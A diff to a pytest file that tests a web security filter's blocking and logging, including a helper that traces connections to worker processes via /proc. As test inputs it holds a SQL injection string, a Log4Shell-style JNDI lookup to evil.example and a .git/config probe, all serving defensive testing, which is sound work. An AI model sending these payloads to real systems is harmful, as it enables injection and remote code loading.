@@ -13,6 +13,7 @@ import time
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -81,6 +82,25 @@ def processes(hub: HubProcess, role: str) -> list[int]:
     ]
 
 
+def answered(hub: HubProcess, path: str, workers: list[int]) -> tuple[int, int]:
+    """(the worker that answered, its status): whose the other end of the connection is."""
+    connection = http.client.HTTPConnection("127.0.0.1", hub.port, timeout=10)
+    try:
+        connection.request("GET", path, headers={"authorization": f"Bearer {hub.key}"})
+        answer = connection.getresponse()
+        ends = f":{hub.port:04X}", f":{connection.sock.getsockname()[1]:04X}"
+        rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
+        (node,) = (row[9] for row in rows if row[1].endswith(ends[0]) and row[2].endswith(ends[1]))
+        for pid in workers:
+            for end in Path(f"/proc/{pid}/fd").iterdir():
+                with suppress(FileNotFoundError):
+                    if end.readlink() == Path(f"socket:[{node}]"):
+                        return pid, answer.status
+        raise AssertionError("no worker holds the connection")
+    finally:
+        connection.close()
+
+
 def refused(reply: Reply) -> str:
     """The finding's id of a refusal."""
     assert reply.status == 400, reply.text
@@ -142,13 +162,17 @@ def test_an_allowance_holds_in_every_worker(echo: HubProcess) -> None:
     reply = echo.admin("POST", "/security/allowances", {"finding": name})
     assert reply.status == 200, reply.text
     until(lambda: echo.get(path).status == 200, 5)
-    for pid in processes(echo, "worker"):
-        # The other one has to answer.
-        os.kill(pid, signal.SIGSTOP)
-        try:
-            assert echo.get(path).status == 200
-        finally:
-            os.kill(pid, signal.SIGCONT)
+    workers = processes(echo, "worker")
+    seen = dict[int, set[int]]()
+    with ThreadPoolExecutor(8) as pool:
+
+        def every() -> bool:
+            for pid, status in pool.map(lambda _: answered(echo, path, workers), range(16)):
+                seen.setdefault(pid, set()).add(status)
+            return set(workers) <= set(seen)
+
+        until(every)
+    assert seen == {pid: {200} for pid in workers}
     # Nothing but exactly this passes: not another path, field or rule.
     refused(echo.get(ATTACK.format("other")))
     refused(echo.get(path.replace("q=", "r=")))
@@ -325,6 +349,30 @@ def test_headers_of_ordinary_clients_pass(echo: HubProcess, client: str) -> None
     assert (reply.status, "x-pihub-finding" in reply.headers) == (401, False), reply.text
     findings = echo.get("/admin/api/v1/security/findings").json["items"]
     assert [row for row in findings if row["place"] == "header"] == [], "noted, though honest"
+
+
+def test_every_place_that_blocks_and_bodies_that_only_note(echo: HubProcess) -> None:
+    form = "application/x-www-form-urlencoded"
+    path = "/apis/echo/places"
+    honest = b"name=O%27Brien&note=select+a+hotel+or+a+room%3B+50%25+off&email=tom%40example.com"
+    assert echo.request("POST", path, honest, content_type=form).status == 200
+    replies = {
+        "form": echo.request("POST", path, b"name=1%27+OR+1%3D1--", content_type=form),
+        "header": echo.get(path, x_note="${jndi:ldap://evil.example/a}"),
+        "path": echo.get("/apis/echo/places/.git/config"),
+    }
+    for place, reply in replies.items():
+        assert refused(reply)
+        assert reply.json["title"].startswith(f"the {place} holds"), place
+        assert looked_up(echo, FINDING.findall(reply.json["title"])[0])["place"] == place
+    # JSON may hold anything: it is noted.
+    assert echo.post(path, {"name": "1' OR 1=1--"}).status == 200
+
+    def noted() -> bool:
+        rows = echo.get("/admin/api/v1/security/findings").json["items"]
+        return any(row["place"] == "json" and not row["blocked"] for row in rows)
+
+    until(noted)
 
 
 def test_attacks_in_many_connections_at_once(echo: HubProcess) -> None:
